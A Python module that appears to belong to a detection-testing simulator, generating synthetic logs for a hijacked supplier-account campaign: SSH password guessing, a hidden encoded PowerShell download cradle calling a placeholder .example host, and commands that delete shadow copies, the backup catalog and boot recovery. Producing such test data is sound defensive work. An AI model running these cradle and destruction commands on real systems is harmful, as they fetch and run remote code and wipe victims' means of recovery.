"""One campaign: somebody who has the password of a supplier's account comes in, calls home, and takes away the means of recovery.

The two establishments share what the attacker brings along: an address, which logs in and is the command server, and its domain. All
else that is equal (names of machines and accounts, private addresses) is equal everywhere and means nothing.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random

from schemas.detection import Entity
from tocsin.simulation import sshd_day
from tocsin.simulation.clock import after
from tocsin.simulation.places import FILES, GATEWAY, SUPPLIER, Place
from tocsin.simulation.programs import BCDEDIT, CMD, POWERSHELL, VSSADMIN, WBADMIN
from tocsin.simulation.sshd_day import SshdLine
from tocsin.simulation.windows_day import encoded
from tocsin.simulation.windows_events import Peer, WindowsEvent, connected, logoff, logon, resolved, session, started

NAME = "hijacked-remote-maintenance"
BETWEEN_SITES = timedelta(minutes=40)
REMOTE_DESKTOP = 10
GUESSES = 9
"""Wrong passwords before the right one."""

DESTRUCTION = (
    (VSSADMIN, "vssadmin.exe delete shadows /all /quiet"),
    (WBADMIN, "wbadmin.exe delete catalog -quiet"),
    (BCDEDIT, "bcdedit.exe /set {default} recoveryenabled No"),
)


@dataclass(frozen=True, slots=True)
class Attacker:
    """What the attacker brings along."""

    ip: str
    """Where the logins come from, and where the download cradle connects to."""
    domain: str
    """The registered domain of that server."""

    @property
    def indicators(self) -> tuple[Entity, ...]:
        """What the establishments hit have in common."""
        return Entity(kind="ip", value=self.ip), Entity(kind="domain", value=self.domain)


def attacker(rng: Random) -> Attacker:
    """An address of 203.0.113.0/24 (RFC 5737), where the ordinary day has none, and a name below ``.example`` (RFC 2606)."""
    return Attacker(f"203.0.113.{rng.randrange(1, 255)}", f"assistance-{rng.getrandbits(20):05x}.example")


def logins(rng: Random, attacker: Attacker, begin: datetime) -> Iterator[SshdLine]:
    """The way in: wrong passwords, the right one, and half an hour later the end of the session."""
    moment = begin
    for _ in range(GUESSES):
        yield from sshd_day.failed(sshd_day.connection(rng, attacker.ip), moment, SUPPLIER)
        moment = after(rng, moment, 4, 12)
    who = sshd_day.connection(rng, attacker.ip)
    yield from sshd_day.accepted(who, moment, SUPPLIER, "password")
    yield from sshd_day.left(who, after(rng, begin, 1700, 1900), SUPPLIER)


def actions(rng: Random, place: Place, attacker: Attacker, begin: datetime) -> Iterator[WindowsEvent]:
    """On the file server, from the gateway: a download cradle, the command server, and the means of recovery."""
    who = session(rng, place, FILES, SUPPLIER)
    moment = after(rng, begin, 300, 420)
    yield logon(rng, moment, who, REMOTE_DESKTOP, GATEWAY)
    host = f"cdn.{attacker.domain}"
    cradle = encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/maj')")
    moment = after(rng, moment, 60, 120)
    yield from started(rng, moment, who, POWERSHELL, f"powershell.exe -nop -w hidden -enc {cradle}", CMD)
    moment = after(rng, moment, 0.5, 2)
    yield resolved(rng, moment, who, POWERSHELL, host, attacker.ip)
    yield connected(rng, after(rng, moment, 0.05, 0.3), who, POWERSHELL, Peer(attacker.ip, 80, host))
    moment = after(rng, moment, 480, 720)
    for program, command in DESTRUCTION:
        moment = after(rng, moment, 2, 15)
        yield from started(rng, moment, who, program, command, CMD)
    yield logoff(after(rng, moment, 60, 180), who, REMOTE_DESKTOP)
